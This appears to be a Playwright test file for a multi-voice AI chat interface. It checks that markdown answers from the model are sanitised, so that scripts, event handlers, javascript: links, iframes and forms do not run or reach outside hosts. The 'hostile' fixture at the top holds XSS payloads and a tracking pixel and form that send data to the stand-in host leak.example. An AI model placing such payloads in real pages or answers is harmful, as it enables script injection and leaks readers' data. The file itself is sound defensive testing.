/** What a model writes is text: it runs nothing, fetches nothing and leads nowhere unasked. */
import { ask, chair, expectAnswer, opinion } from "./support/council";
import { webUrl } from "./support/stack";
import { expect, test } from "./support/test";

const hostile = `# Heading

<script>document.title = "taken"</script>
<img src="https://leak.example/raw.png" onerror="document.title='taken'">
<iframe src="https://leak.example/"></iframe>
<style>body { display: none }</style>
<a href="javascript:document.title='taken'" onclick="document.title='taken'">raw link</a>

![a picture](https://leak.example/pixel.png?who=reader)
![worse](javascript:document.title='taken')

[run me](javascript:document.title='taken') [data](data:text/html,<script>1</script>) [good](https://example.org/)

<form action="https://leak.example/"><input name="query"><button>Send</button></form>

\`\`\`html
<script>document.title = "taken"</script>
\`\`\`

The last line.`;

test("a hostile answer stays text: nothing runs, nothing is fetched", async ({ page, rehearsal }) => {
  await rehearsal.say({ "*": [hostile] });
  const elsewhere: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(webUrl)) elsewhere.push(request.url());
  });
  await ask(page, "What do you do to the page?");
  await expectAnswer(page, "Full");
  for (const voice of [opinion(page, "Reasoner"), chair(page).locator(".md")]) {
    await expect(voice).toContainText("The last line.");
    await expect(voice).toBeVisible();
    await expect(voice.locator("script, img, iframe, style, form, input, [onclick], [onerror], [style]")).toHaveCount(0);
    await expect(voice.getByRole("link", { name: "a picture" })).toHaveAttribute("href", "https://leak.example/pixel.png?who=reader");
    await expect(voice.getByRole("link", { name: "good" })).toHaveAttribute("rel", "noreferrer noopener nofollow");
    const addresses = await voice.getByRole("link").evaluateAll((links) => links.map((link) => link.getAttribute("href") ?? ""));
    expect(addresses.filter((address) => !address.startsWith("https://"))).toEqual([]);
    await expect(voice.locator("pre")).toContainText('document.title = "taken"');
  }
  await expect(page).toHaveTitle(/What do you do to the page\?/);
  expect(elsewhere).toEqual([]);
});

test("code, tables and formulas are drawn without a breach of the policy", async ({ page, rehearsal }) => {
  await rehearsal.say({ "*": ["| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f(x: int) -> int:\n    return x\n```\n\n$$E = mc^2$$"] });
  await ask(page, "What is drawn?");
  await expectAnswer(page, "Full");
  const answer = chair(page).locator(".md");
  await expect(answer.getByRole("table")).toContainText("1");
  await expect(answer.locator("pre .hljs-keyword").first()).toHaveText("def");
  await expect(answer.locator("math").first()).toBeVisible();
});
